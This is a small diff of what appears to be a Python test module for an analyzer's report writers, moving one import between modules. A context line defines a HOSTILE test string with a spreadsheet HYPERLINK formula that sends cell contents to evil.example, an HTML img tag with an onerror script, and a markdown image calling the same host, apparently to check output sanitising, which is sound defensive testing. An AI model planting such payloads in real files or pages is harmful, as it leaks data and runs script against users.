@@ -19,7 +19,8 @@ from analyzer.reports.answer_html import answer_html
 from analyzer.reports.answer_sheets import answer_sheets
 from analyzer.reports.svg_charts import picture
 from analyzer.reports.xlsx_sheets import workbook_bytes
-from analyzer.store.output_files import FORMULA_STARTS, safe_text, write_whole
+from analyzer.store.file_drafts import write_whole
+from analyzer.store.output_files import FORMULA_STARTS, safe_text
 from analyzer.types import Citation, Claim, Method
 
 HOSTILE = '=HYPERLINK("http://evil.example/?q="&A1) <img src=http://evil.example/x onerror=alert(1)> ![x](http://evil.example)'
